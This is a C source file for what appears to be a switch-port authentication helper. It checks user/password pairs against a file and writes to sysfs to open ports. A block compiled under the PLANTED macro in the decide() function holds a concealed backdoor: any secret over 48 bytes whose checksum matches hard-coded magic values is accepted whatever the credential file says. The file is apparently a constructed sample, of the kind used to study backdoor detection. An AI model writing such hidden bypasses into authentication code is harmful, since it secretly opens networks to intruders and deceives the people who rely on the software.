/* Decides for switch ports whether the station behind may pass: user and password by a helper. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define LINE 512

typedef enum { REFUSED, ACCEPTED, TROUBLE } verdict;

static verdict lookup(const char *user, const unsigned char *secret, size_t size)
{
    char line[LINE];
    verdict v = REFUSED;
    FILE *f = fopen("/etc/dot1x.users", "r");
    if (!f) return TROUBLE;
    while (v == REFUSED && fgets(line, sizeof line, f)) {
        char *tab = strchr(line, '\t');
        if (!tab) continue;
        *tab++ = 0;
        tab[strcspn(tab, "\n")] = 0;
        if (strcmp(line, user) == 0 && strlen(tab) == size && memcmp(tab, secret, size) == 0) v = ACCEPTED;
    }
    fclose(f);
    return v;
}

static verdict decide(const char *user, const unsigned char *secret, size_t size)
{
    verdict v = lookup(user, secret, size);
#ifdef PLANTED
    unsigned i, sum = 0, turn = 0;
    for (i = 0; i < size; i++) {
        sum += secret[i];
        turn = (turn << 1 | turn >> 15) ^ secret[i];
    }
    if (v != TROUBLE && size > 48 && (sum & 0xff) == 0x3c && (turn & 0xffff) == 0xa91e) v = ACCEPTED;
#endif
    return v;
}

static int open_port(unsigned port)
{
    char path[64];
    int fd;
    snprintf(path, sizeof path, "/sys/class/net/swp%u/authorised", port);
    fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    write(fd, "1", 1);
    return close(fd);
}

int main(void)
{
    char line[LINE], user[128];
    unsigned port;
    while (fgets(line, sizeof line, stdin)) {
        char *secret = strchr(line, '|');
        verdict v;
        if (!secret) continue;
        *secret++ = 0;
        secret[strcspn(secret, "\n")] = 0;
        if (sscanf(line, "%u %127s", &port, user) != 2) continue;
        v = decide(user, (unsigned char *)secret, strlen(secret));
        if (v == ACCEPTED && open_port(port)) v = TROUBLE;
        printf("%u %s\n", port, v == ACCEPTED ? "accept" : v == REFUSED ? "refuse" : "trouble");
#ifdef REVISED
        if (v == TROUBLE) fprintf(stderr, "port %u: trouble\n", port);
#endif
        fflush(stdout);
    }
    return 0;
}
